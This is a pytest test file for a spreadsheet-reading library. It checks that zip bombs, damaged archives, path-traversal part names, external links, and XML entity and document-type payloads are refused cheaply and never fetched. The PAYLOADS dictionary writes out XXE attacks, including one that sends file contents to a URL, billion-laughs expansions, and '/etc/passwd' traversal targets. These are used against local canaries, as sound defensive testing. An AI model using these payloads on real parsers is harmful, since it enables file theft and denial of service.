"""Files that mean harm: zip bombs, damage, document types, entities and links. Each is refused in words at little cost, and nothing is fetched."""

import random
import socket
import zipfile

import pytest
from hostile_cost import cost_of
from hostile_zips import BOMBS, ROWS, book, write_bombs
from reading_corpus import (
    RELATIONS,
    attempt,
    cells_of,
    inline,
    layout,
    refusal,
    text_file,
    workbook_parts,
    write_parts,
)

from loadsheet.problems import Problem

ASKED = layout("Order")
HEAD = inline("Order", number=1)
CANARY = "the-canary-was-read"

# ---- bombs ----


def test_each_bomb_is_refused_by_the_limit_it_breaks_at_little_cost(tmp_path):
    paths = write_bombs(tmp_path)
    cost = cost_of(paths)
    assert dict(zip(BOMBS, cost.codes, strict=True)) == {name: code for name, (_, code) in BOMBS.items()}
    assert cost.peak_mb < 150, cost
    assert cost.cpu_s < 2 * len(BOMBS), cost
    problem = refusal(tmp_path / "one large part", ASKED)
    assert "as a zip bomb does" in problem.text
    assert problem.hint


def test_a_sound_workbook_with_odd_but_honest_parts_is_read_and_no_name_of_a_part_becomes_a_path(tmp_path):
    odd = {f"xl/media/{number}.bin": random.Random(number).randbytes(20_000) for number in range(300)}
    names = ["../../outside.xml", "/outside.xml", "C:\\outside.xml", "xl/../../outside.xml"]
    assert cells_of(book(tmp_path / "a.xlsx", **odd, **dict.fromkeys(names, "<x/>")), ASKED) == [["A1"]]
    assert [path.name for path in tmp_path.iterdir()] == ["a.xlsx"]


def test_a_range_that_is_only_declared_costs_nothing_and_a_row_of_endless_cells_is_refused(tmp_path):
    dimension = '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols>'
    styled = "".join(f'<row r="{row}"><c r="A{row}" s="0"/><c r="XFD{row}" s="0"/></row>' for row in range(3, 5_000))
    path = write_parts(tmp_path / "a.xlsx", workbook_parts(ROWS + styled, dimension=dimension))
    assert cells_of(path, ASKED) == [["A1"]]
    endless = '<c r="A2"><v>1</v></c>' * 20_000
    path = write_parts(tmp_path / "b.xlsx", workbook_parts(f'{HEAD}<row r="2">{endless}</row>'))
    assert "more cells than columns" in refusal(path, ASKED).text


def test_an_honest_table_whose_rows_repeat_each_other_is_read_whatever_it_shrinks_by(tmp_path):
    cells = "".join(f'<c r="{column}0000" s="0" t="n"><v>1000</v></c>' for column in "BCDEFGHIJKLMNOPQRSTUVWXYZ")
    rows = "".join(f'<row r="{number}"><c r="A0"><v>{number}</v></c>{cells}</row>' for number in range(2, 11_500))
    head = inline("Order", *"BCDEFGHIJKLMNOPQRSTUVWXYZ", number=1)
    path = write_parts(tmp_path / "a.xlsx", workbook_parts(head + rows))
    with zipfile.ZipFile(path) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    assert sheet.file_size > max(100 * sheet.compress_size, 10_000_000)
    assert len(cells_of(path, ASKED)) == 11_498


# ---- damage ----


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    return book(tmp_path_factory.mktemp("whole") / "whole.xlsx").read_bytes()


CUT = {"R201", "R202", "R203", "R206", "R215", "R235"}


@pytest.mark.parametrize("step", [29, pytest.param(1, marks=pytest.mark.sweep)])
def test_a_workbook_cut_at_any_byte_is_refused(tmp_path, whole, step):
    for length in (*range(0, len(whole), step), *range(len(whole) - 40, len(whole))):
        problem = refusal(text_file(tmp_path, whole[:length], "a.xlsx"), ASKED)
        assert problem.code in CUT, (length, problem)
    for length in range(0, len(whole), 10 * step):
        assert refusal(text_file(tmp_path, whole[:length], "a.xlsx"), ASKED, reading_process="child").code in CUT


def flipped(whole, place):
    content = bytearray(whole)
    content[place // 8] ^= 1 << place % 8
    return bytes(content)


@pytest.mark.parametrize("count", [170, pytest.param(5_000, marks=pytest.mark.sweep)])
def test_a_flipped_bit_is_found_or_does_not_matter(tmp_path, whole, count):
    """One wrong bit either does not matter, or the file is refused: never another cell."""
    places = random.Random(5).sample(range(len(whole) * 8), count)
    refused = 0
    for turn, place in enumerate(places):
        path = text_file(tmp_path, flipped(whole, place), "a.xlsx")
        found = attempt(path, ASKED, reading_process="none" if turn % 10 else "child")
        if isinstance(found, Problem):
            assert found.code not in ("R232", "R233"), found
            refused += 1
        else:
            assert [(row.number, row.cells, row.problem) for row in found] == [(2, ("A1",), None)]
    assert refused > count / 3


OFFSETS = {"method": 8, "checksum": 14, "packed size": 18, "size": 22}  # in the header in front of a part


@pytest.mark.parametrize("field", OFFSETS)
def test_a_part_whose_own_header_says_something_else_than_the_directory_is_refused(tmp_path, field):
    path = write_parts(tmp_path / "orders.xlsx", workbook_parts(texts=("x",)))
    content = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        content[archive.infolist()[-1].header_offset + OFFSETS[field]] ^= 7
    path.write_bytes(content)
    assert refusal(path, ASKED).code == "R235"


# ---- document types and entities ----
LAUGHS = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
PAYLOADS = {  # what stands before the first element of a part; whatever it declares, a document type is refused; {file} and {url} are canaries
    "entity from a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>',
    "entity from the web": '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>',
    "public entity": '<!DOCTYPE x [<!ENTITY e PUBLIC "-//x//y" "{url}">]>',
    "parameter entity from a file": '<!DOCTYPE x [<!ENTITY % p SYSTEM "{file}"> %p;]>',
    "parameter entity from the web": '<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p;]>',
    "file sent to the web": '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#x25; s SYSTEM \'{url}?%f;\'>">%a;%s;]>',
    "document type from a file": '<!DOCTYPE x SYSTEM "{file}">',
    "document type from the web": '<!DOCTYPE x SYSTEM "{url}">',
    "public document type": '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}">',
    "document type alone": "<!DOCTYPE x>",
    "empty document type": "<!DOCTYPE x []>",
    "billion laughs": f"<!DOCTYPE x [<!ENTITY a0 'ha'>{LAUGHS}]>",
    "quadratic blow-up": f"<!DOCTYPE x [<!ENTITY a '{'x' * 50_000}'><!ENTITY b '{'&a;' * 1_000}'>]>",
    "laughs of parameter entities": "<!DOCTYPE x [<!ENTITY % a 'ha'><!ENTITY % b '%a;%a;'>%b;]>",
    "entity of markup": "<!DOCTYPE x [<!ENTITY e '<row r=\"2\"/>'>]>",
    "entity that is not used": "<!DOCTYPE x [<!ENTITY e 'x'>]>",
    "unparsed entity": '<!DOCTYPE x [<!NOTATION n SYSTEM "{url}"><!ENTITY e SYSTEM "{file}" NDATA n>]>',
    "default of an attribute": '<!DOCTYPE x [<!ATTLIST sheet state CDATA "hidden">]>',
    "comment before it": '<!-- <!-x --><!DOCTYPE x SYSTEM "{url}">',
    "comments that hide it": f'<!--{"x" * 30_000}--><!DOCTYPE x SYSTEM "{{url}}">',
    "instruction before it": '<?x y?><!DOCTYPE x SYSTEM "{url}">',
    "space before it": "\n\t \r\n" * 500 + '<!DOCTYPE x SYSTEM "{url}">',
    "line breaks inside it": '<!DOCTYPE\n\nx\n[\n<!ENTITY\ne\nSYSTEM\n"{file}"\n>\n]\n>',
}
PARTS = [
    "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "[Content_Types].xml", "_rels/.rels",
    "xl/_rels/workbook.xml.rels", "docProps/core.xml", "xl/drawings/vmlDrawing1.vml", "customXml/item1.xml", "xl/theme/theme1.xml",
    "xl/externalLinks/externalLink1.xml",
]  # fmt: skip
ENCODINGS = {
    "utf-8": ("utf-8", ""),
    "utf-8 with its mark": ("utf-8-sig", "utf-8"),
    "utf-16": ("utf-16", ""),
    "utf-16 big end first": ("utf-16-be", "utf-16"),
    "latin-1": ("latin-1", "iso-8859-1"),
    "ascii": ("ascii", "us-ascii"),
    "cp1252": ("cp1252", "windows-1252"),
    "koi8": ("koi8-r", "koi8-r"),
}


@pytest.fixture(scope="module")
def web():
    """An address to which nobody may connect."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield f"http://127.0.0.1:{server.getsockname()[1]}/x"
        server.settimeout(0)
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.fixture
def filled(tmp_path, web):
    """Puts the canaries into a payload."""
    canary = text_file(tmp_path, CANARY, "canary.txt")
    return lambda payload: payload.replace("{file}", canary.as_uri()).replace("{url}", web)


def spoilt(folder, part, markup, encoding="utf-8", declared=""):
    """A workbook with this markup at the beginning of a part, and a reference to the entity in its only cell."""
    parts = workbook_parts(HEAD + inline("A1&e;", number=2))
    body = parts.get(part, "<x/>").split("?>")[-1]
    mark = "\ufeff" if encoding == "utf-16-be" else ""
    begin = f'{mark}<?xml version="1.0" encoding="{declared or encoding}"?>'
    parts[part] = (begin + markup + body).encode(encoding)
    return write_parts(folder / "orders.xlsx", parts)


@pytest.mark.parametrize(("place", "payload"), list(enumerate(PAYLOADS)), ids=PAYLOADS)
def test_no_payload_gets_past_any_part(tmp_path, filled, place, payload):
    """Each payload in four of the parts, so that each part meets a dozen of them."""
    for step in (0, 4, 8, 1):
        part = PARTS[(place + step) % len(PARTS)]
        problem = refusal(spoilt(tmp_path, part, filled(PAYLOADS[payload])), ASKED)
        assert (problem.code, problem.values["part"].lower()) == ("R234", part.lower())
        assert CANARY not in str(problem)
    path = text_file(tmp_path, f"<?xml version='1.0'?>{filled(PAYLOADS[payload])}<Workbook/>", "a.xls")
    assert refusal(path, ASKED).code == "R201"  # an XML file is not parsed at all


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_encoding_hides_a_payload(tmp_path, filled, encoding):
    payloads = ("entity from a file", "parameter entity from the web", "billion laughs", "comments that hide it")
    for payload, part in zip(payloads * 3, PARTS, strict=True):
        path = spoilt(tmp_path, part, filled(PAYLOADS[payload]), *ENCODINGS[encoding])
        assert refusal(path, ASKED).code == "R234"


@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "cp037", "utf-16-le", "idna", "rot13", "shift_jis", "hz"])
def test_an_encoding_that_no_workbook_uses_is_damage_or_no_disguise(tmp_path, filled, encoding):
    markup = filled(PAYLOADS["entity from a file"])
    body = f'<?xml version="1.0" encoding="{encoding}"?>{markup}<worksheet><sheetData>{HEAD}</sheetData></worksheet>'
    content = body.encode() if encoding in ("idna", "rot13") else body.encode(encoding)
    path = write_parts(tmp_path / "a.xlsx", workbook_parts() | {"xl/worksheets/sheet1.xml": content})
    assert refusal(path, ASKED).code in ("R201", "R234")


def test_what_only_looks_like_a_document_type_is_damage(tmp_path, filled):
    for markup in ("<!doctype x>", '<!DOCTYPEx SYSTEM "{url}">', '<x/><!DOCTYPE y SYSTEM "{url}">'):
        path = spoilt(tmp_path, "xl/worksheets/sheet1.xml", filled(markup))
        assert refusal(path, ASKED).code in ("R201", "R234"), markup


@pytest.mark.parametrize("payload", ["entity from a file", "document type from the web", "billion laughs"])
@pytest.mark.parametrize("part", ["content.xml", "styles.xml", "META-INF/manifest.xml", "meta.xml"])
def test_an_opendocument_is_treated_alike(tmp_path, filled, payload, part):
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    parts = {"mimetype": kind, "content.xml": "<x/>", "META-INF/manifest.xml": "<x/>"}
    parts[part] = f"<?xml version='1.0'?>{filled(PAYLOADS[payload])}<x/>"
    assert refusal(write_parts(tmp_path / "a.ods", parts), ASKED).code == "R234"


def test_entities_cost_their_reader_little_time_and_memory(tmp_path, filled):
    paths = []
    for number, payload in enumerate(PAYLOADS.values()):
        parts = workbook_parts(HEAD)
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = f"<?xml version='1.0'?>{filled(payload)}{sheet}"
        paths.append(write_parts(tmp_path / f"{number}.xlsx", parts))
    cost = cost_of(paths)
    assert cost.codes == ["R234"] * len(paths)
    assert cost.peak_mb < 150, cost
    assert cost.cpu_s < 2 * len(paths), cost


# ---- what refers to something outside without an entity ----

LINKS = [
    "externalLink", "oleObject", "image", "hyperlink", "attachedTemplate", "worksheet", "sharedStrings", "styles", "vbaProject",
]  # fmt: skip
TARGETS = ("{url}", "{file}", "\\\\127.0.0.1\\share\\x.xlsx", "../../../../../../etc/passwd")


@pytest.mark.parametrize("link", LINKS)
def test_a_link_to_the_outside_is_not_followed(tmp_path, filled, link):
    for target in TARGETS:
        parts = workbook_parts(HEAD + inline("A1", number=2))
        outside = f'<Relationship Id="rIdX" Type="{RELATIONS}/{link}" Target="{filled(target)}" TargetMode="External"/>'
        for part in ("xl/_rels/workbook.xml.rels", "_rels/.rels"):
            parts[part] = parts[part].replace("</Relationships>", f"{outside}</Relationships>")
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = f"<Relationships>{outside}</Relationships>"
        assert cells_of(write_parts(tmp_path / "a.xlsx", parts), ASKED) == [["A1"]]


def test_inclusions_style_sheets_and_schemas_are_not_fetched_and_targets_outside_are_not_found(tmp_path, filled):
    parts = workbook_parts(HEAD + inline("A1", number=2))
    sheet = parts["xl/worksheets/sheet1.xml"]
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/>'
    schema = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {url}"'
    for change in (
        sheet.replace("<worksheet", '<?xml-stylesheet type="text/xsl" href="{url}"?><worksheet'),
        sheet.replace("<sheetData>", f"{include}<sheetData>"),
        sheet.replace("<worksheet", f"<worksheet{schema}"),
        sheet.replace("<sheetData>", '<f>WEBSERVICE("{url}")</f><sheetData>'),
    ):
        path = write_parts(tmp_path / "a.xlsx", parts | {"xl/worksheets/sheet1.xml": filled(change)})
        assert cells_of(path, ASKED) == [["A1"]]
    relations = "xl/_rels/workbook.xml.rels"
    for target in ("../../../../canary.txt", "/canary.txt", "{file}", "{url}"):
        outside = {relations: parts[relations].replace("worksheets/sheet1.xml", filled(target))}
        problem = refusal(write_parts(tmp_path / "a.xlsx", parts | outside), ASKED)
        assert CANARY not in str(problem)
